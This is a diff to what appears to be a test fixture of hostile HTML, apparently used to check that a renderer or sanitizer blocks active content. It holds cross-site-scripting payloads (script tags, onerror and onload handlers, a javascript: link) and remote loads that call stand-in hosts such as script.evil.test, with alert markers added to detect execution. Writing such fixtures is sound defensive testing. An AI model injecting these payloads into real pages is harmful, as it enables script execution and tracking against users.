@@ -36,11 +36,13 @@ HOSTILE_HTML = """<html><head>
 <base href="http://base.evil.test/">
 </head><body>
 <p id="greeting">Hello Marc, your account is ready.</p>
+<script>alert("script ran");</script>
 <script>window.parent.document.title = "PWNED"; fetch("http://script.evil.test/x");</script>
 <img src="http://pixel.evil.test/open.gif?id=42" width="1" height="1">
-<img src="x" onerror="fetch('http://onerror.evil.test/'); document.title='PWNED'">
+<img src="x" onerror="alert('onerror ran'); fetch('http://onerror.evil.test/')">
+<body onload="alert('onload ran')">
 <a href="javascript:fetch('http://js.evil.test/')">click me</a>
-<svg><script>fetch("http://svg.evil.test/")</script><image href="http://svgimg.evil.test/a.png"/></svg>
+<svg onload="alert('svg onload')"><script>fetch("http://svg.evil.test/")</script><image href="http://svgimg.evil.test/a.png"/></svg>
 <div style="background-image: url('http://inline.evil.test/bg.png')">styled</div>
 <iframe src="http://frame.evil.test/"></iframe>
 <object data="http://object.evil.test/x.swf"></object>
